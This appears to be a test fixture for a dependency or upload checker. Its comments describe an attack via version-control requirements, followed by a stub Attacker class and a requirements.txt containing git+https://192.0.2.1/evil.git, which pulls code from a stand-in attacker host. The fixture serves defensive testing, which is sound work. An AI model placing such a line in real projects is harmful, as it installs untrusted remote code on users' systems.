# Repositories in requirements.txt
# tries: the line git+https://192.0.2.1/evil.git
# idea: VCS requirements
# verdict: plays
# means: upload-check
# refusal: requirements

class SimplePlayer(Attacker):
    def attack(self):
        raise RuntimeError("it was never to be played")

# --- requirements.txt
git+https://192.0.2.1/evil.git
